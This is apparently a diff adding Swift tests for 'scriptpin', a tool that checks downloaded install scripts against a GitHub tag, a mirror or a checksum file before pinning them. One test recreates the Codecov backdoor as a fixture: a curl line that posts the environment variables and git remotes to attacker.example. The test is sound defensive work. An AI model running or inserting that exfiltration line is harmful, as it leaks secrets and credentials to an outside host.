@@ -1,0 +1,203 @@
+import Foundation
+import Testing
+@testable import ScriptPinKit
+
+/// A vendor on loopback: a real git repository the test server answers
+/// GitHub's git database API from, and a download host serving the script.
+final class Vendor: @unchecked Sendable {
+    let server: HTTPSFixture
+    let work: Workspace
+    let repository: String
+
+    init(server: HTTPSFixture, owner: String = "vendor", name: String = "tool") {
+        self.server = server
+        work = Workspace(server: server)
+        repository = server.root.url("repos/\(owner)/\(name)")
+        try! FileManager.default.createDirectory(atPath: repository, withIntermediateDirectories: true)
+        #expect(git(["init", "-q", "-b", "main"], in: repository).status == 0)
+    }
+
+    /// Commits `content` at `path` and returns the commit id.
+    @discardableResult
+    func commit(_ path: String, _ content: String, message: String = "change") -> String {
+        let file = repository + "/" + path
+        try! FileManager.default.createDirectory(atPath: (file as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
+        try! content.write(toFile: file, atomically: true, encoding: .utf8)
+        #expect(git(["add", path], in: repository).status == 0)
+        #expect(git(["commit", "-q", "-m", message], in: repository).status == 0)
+        return head
+    }
+
+    var head: String {
+        git(["rev-parse", "HEAD"], in: repository).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
+    }
+
+    /// An annotated tag at HEAD, replacing one of that name.
+    func tag(_ name: String) {
+        #expect(git(["tag", "-f", "-a", name, "-m", "release \(name)"], in: repository).status == 0)
+    }
+
+    var environment: [String: String] {
+        work.environment([GitHubAPI.baseVariable: server.url("github")])
+    }
+
+    func scriptpin(_ arguments: [String]) -> ProcessResult {
+        work.scriptpin(arguments, environment: environment)
+    }
+
+    func pinText(_ name: String) -> String? {
+        work.directory.read("known-hashes/\(name).pin")
+    }
+}
+
+@Suite("Provenance: evidence from a second channel before a pin is written")
+struct ProvenanceTests {
+    let server: HTTPSFixture
+
+    init() throws {
+        server = try HTTPSFixture()
+    }
+
+    @Test("A GitHub source at a tag that holds the served bytes: add records the tag's commit and writes the pin")
+    func githubSourceAgrees() throws {
+        let vendor = Vendor(server: server)
+        let script = "#!/bin/sh\necho installing tool 1.0\n"
+        let commit = vendor.commit("install.sh", script)
+        vendor.tag("v1.0")
+        vendor.commit("install.sh", "#!/bin/sh\necho installing tool 2.0-dev\n")
+        server.serve("install.sh", script)
+        let added = vendor.scriptpin(["add", "tool", server.url("files/install.sh"), "--source", "github:vendor/tool@v1.0:install.sh", "--yes"])
+        #expect(added.status == 0, "\(added.stderr)")
+        let blob = try gitBlobID(of: Array(script.utf8))
+        #expect(added.stdout.contains("evidence     source github:vendor/tool@v1.0:install.sh: the file at commit \(commit) is the served body (git blob \(blob))\n"), "\(added.stdout)")
+        let pin = try #require(vendor.pinText("tool"))
+        #expect(pin.contains("\nsource github:vendor/tool@v1.0:install.sh commit \(commit)\n"), "\(pin)")
+        #expect(!added.stderr.contains("no evidence"))
+        // GitHub's answers were asked for: the ref, the tag object, the commit and its tree.
+        let asked = server.requests.filter { $0.contains("/github/") }.map { $0.split(separator: " ")[2] }
+        #expect(asked.count == 4, "\(asked)")
+    }
+
+    @Test("The Codecov shape: a served body that differs from the vendor's file at the tag cannot be pinned (exit 1, nothing written)")
+    func servedBodyDiffersFromRepository() throws {
+        let vendor = Vendor(server: server)
+        let clean = "#!/bin/sh\necho uploading coverage\n"
+        let commit = vendor.commit("codecov", clean)
+        vendor.tag("1.0.6")
+        let backdoored = clean + "curl -sm 0.5 -d \"$(git remote -v)<<<<<< ENV $(env)\" https://attacker.example/upload/v2 || true\n"
+        server.serve("codecov", backdoored)
+        let added = vendor.scriptpin(["add", "codecov", server.url("files/codecov"), "--source", "github:vendor/tool@1.0.6:codecov", "--yes"])
+        #expect(added.status == 1, "\(added.stderr)")
+        #expect(vendor.pinText("codecov") == nil, "nothing written")
+        let served = try gitBlobID(of: Array(backdoored.utf8))
+        let published = try gitBlobID(of: Array(clean.utf8))
+        #expect(added.stderr.contains(
+            "Error: the evidence contradicts the body of \(server.url("files/codecov")): source github:vendor/tool@1.0.6:codecov: the file at commit \(commit) (git blob \(published)) differs from the served body (git blob \(served)); nothing was written."),
+            "\(added.stderr)")
+    }
+
+    @Test("A file in a subdirectory, a branch, and a ref or path the repository does not have")
+    func refsAndPaths() throws {
+        let vendor = Vendor(server: server)
+        let script = "#!/bin/sh\necho nested\n"
+        let commit = vendor.commit("install/install.sh", script)
+        server.serve("nested.sh", script)
+        let onBranch = vendor.scriptpin(["add", "nested", server.url("files/nested.sh"), "--source", "github:vendor/tool@main:install/install.sh", "--yes"])
+        #expect(onBranch.status == 0, "\(onBranch.stderr)")
+        #expect(vendor.pinText("nested")?.contains("source github:vendor/tool@main:install/install.sh commit \(commit)\n") == true)
+
+        server.serve("nested-copy.sh", script)
+        let noTag = vendor.scriptpin(["add", "other", server.url("files/nested-copy.sh"), "--source", "github:vendor/tool@v9:install/install.sh", "--yes"])
+        #expect(noTag.status == 1)
+        #expect(noTag.stderr.contains("source github:vendor/tool@v9:install/install.sh: vendor/tool has no tag or branch v9 (or the repository does not exist); nothing was written"), "\(noTag.stderr)")
+        let noFile = vendor.scriptpin(["add", "other", server.url("files/nested-copy.sh"), "--source", "github:vendor/tool@main:install.sh", "--yes"])
+        #expect(noFile.status == 1)
+        #expect(noFile.stderr.contains("vendor/tool has no file install.sh at commit \(commit)"), "\(noFile.stderr)")
+        #expect(vendor.pinText("other") == nil)
+    }
+
+    @Test("A declared substitution of the commit id is accepted, and only that one")
+    func commitPlaceholder() throws {
+        let vendor = Vendor(server: server)
+        let template = "#!/bin/sh\nSCRIPT_COMMIT_SHA=\"${LOAD_SCRIPT_COMMIT_SHA}\"\necho docker\n"
+        let commit = vendor.commit("install.sh", template)
+        let served = template.replacingOccurrences(of: "${LOAD_SCRIPT_COMMIT_SHA}", with: commit)
+        server.serve("get-docker", served)
+        let source = "github:vendor/tool@main:install.sh commit-in-place-of ${LOAD_SCRIPT_COMMIT_SHA}"
+        let added = vendor.scriptpin(["add", "docker", server.url("files/get-docker"), "--source", source, "--yes"])
+        #expect(added.status == 0, "\(added.stderr)")
+        #expect(added.stdout.contains("the file at commit \(commit) is the served body, with the commit id in place of ${LOAD_SCRIPT_COMMIT_SHA}"), "\(added.stdout)")
+        #expect(vendor.pinText("docker")?.contains("source github:vendor/tool@main:install.sh commit \(commit) commit-in-place-of ${LOAD_SCRIPT_COMMIT_SHA}\n") == true)
+
+        server.serve("get-docker-copy", served)
+        let undeclared = vendor.scriptpin(["add", "undeclared", server.url("files/get-docker-copy"), "--source", "github:vendor/tool@main:install.sh", "--yes"])
+        #expect(undeclared.status == 1, "without the declaration the substitution is a difference")
+        server.serve("get-docker-more", served + "echo one more line\n")
+        let more = vendor.scriptpin(["add", "more", server.url("files/get-docker-more"), "--source", source, "--yes"])
+        #expect(more.status == 1)
+        #expect(more.stderr.contains("differs from the served body by more than the commit id in place of ${LOAD_SCRIPT_COMMIT_SHA}"), "\(more.stderr)")
+    }
+
+    @Test("A source URL and a vendor checksum file: agreeing, disagreeing, missing the name, sha512")
+    func urlAndSums() throws {
+        let vendor = Vendor(server: server)
+        let script = "#!/bin/sh\necho sums\n"
+        server.serve("tool.sh", script)
+        server.serve("mirror.sh", script)
+        server.serve("changed.sh", script + "echo extra\n")
+        let digest = sha256Hex(script)
+        server.serve("SHA256SUMS", "\(digest)  tool.sh\n\(String(repeating: "0", count: 64))  other.sh\n")
+        let sha512 = Digest(algorithm: .sha512, bytes: try {
+            let hasher = try StreamingHasher(.sha512)
+            try hasher.update(Array(script.utf8))
+            return try hasher.finalize().bytes
+        }())
+        server.serve("SHA512SUM", "\(sha512.hex)  codecov\n")
+
+        let url = server.url("files/tool.sh")
+        let agreeing = vendor.scriptpin(["add", "tool", url, "--source", server.url("files/mirror.sh"), "--sums", server.url("files/SHA256SUMS"), "--yes"])
+        #expect(agreeing.status == 0, "\(agreeing.stderr)")
+        #expect(agreeing.stdout.contains("evidence     source \(server.url("files/mirror.sh")): serves the same bytes\n"))
+        #expect(agreeing.stdout.contains("evidence     sums \(server.url("files/SHA256SUMS")): lists tool.sh with the body's sha256\n"))
+        let pin = try #require(vendor.pinText("tool"))
+        #expect(pin.contains("\nsource \(server.url("files/mirror.sh"))\nsums \(server.url("files/SHA256SUMS"))\n"), "\(pin)")
+
+        // Each refused add below pins a URL of its own, so that none is refused for being pinned already.
+        func copy(_ name: String) -> String {
+            server.serve(name, script)
+            return server.url("files/\(name)")
+        }
+        let named = vendor.scriptpin(["add", "named", copy("named.sh"), "--sums", server.url("files/SHA512SUM"), "--sums-name", "codecov", "--yes"])
+        #expect(named.status == 0, "\(named.stderr)")
+        #expect(vendor.pinText("named")?.contains("sums \(server.url("files/SHA512SUM")) codecov\n") == true)
+
+        let mirrorDiffers = vendor.scriptpin(["add", "a", copy("a.sh"), "--source", server.url("files/changed.sh"), "--yes"])
+        #expect(mirrorDiffers.status == 1)
+        #expect(mirrorDiffers.stderr.contains("source \(server.url("files/changed.sh")): serves different bytes (sha256 \(sha256Hex(script + "echo extra\n")), the body's is \(digest))"), "\(mirrorDiffers.stderr)")
+        server.serve("WRONGSUMS", "\(String(repeating: "1", count: 64))  b.sh\n")
+        let wrongDigest = vendor.scriptpin(["add", "b", copy("b.sh"), "--sums", server.url("files/WRONGSUMS"), "--yes"])
+        #expect(wrongDigest.status == 1)
+        #expect(wrongDigest.stderr.contains("lists b.sh with sha256 \(String(repeating: "1", count: 64)) on line 1, and the body's is \(digest)"), "\(wrongDigest.stderr)")
+        let missingName = vendor.scriptpin(["add", "c", copy("c.sh"), "--sums", server.url("files/SHA512SUM"), "--yes"])
+        #expect(missingName.status == 1)
+        #expect(missingName.stderr.contains("lists no file named c.sh (it lists codecov); name the script's entry on the line: sums URL NAME"), "\(missingName.stderr)")
+        #expect(["a", "b", "c"].allSatisfy { vendor.pinText($0) == nil })
+    }
+
+    @Test("Evidence that cannot be fetched: add exits 3 and writes nothing; without evidence add says so once")
+    func unreachableAndAbsent() throws {
+        let vendor = Vendor(server: server)
+        let script = "#!/bin/sh\necho alone\n"
+        server.serve("alone.sh", script)
+        let closed = "https://127.0.0.1:1/SHA256SUMS"
+        let unreachable = vendor.scriptpin(["add", "alone", server.url("files/alone.sh"), "--sums", closed, "--yes"])
+        #expect(unreachable.status == 3, "\(unreachable.stderr)")
+        #expect(unreachable.stderr.contains("Error: the evidence for the body of \(server.url("files/alone.sh")) could not be checked: sums \(closed): could not be checked: "), "\(unreachable.stderr)")
+        #expect(unreachable.stderr.contains("; nothing was written. Try again when the host answers\n"), "\(unreachable.stderr)")
+        #expect(vendor.pinText("alone") == nil)
+
+        let bare = vendor.scriptpin(["add", "alone", server.url("files/alone.sh"), "--yes"])
+        #expect(bare.status == 0, "\(bare.stderr)")
+        #expect(bare.stderr.contains("scriptpin: the pin has no evidence from a second channel, so it approves whatever the host serves today; give it one with --source URL, --source github:OWNER/REPO@REF:PATH or --sums URL (see the README's Provenance section)\n"), "\(bare.stderr)")
+    }
+}
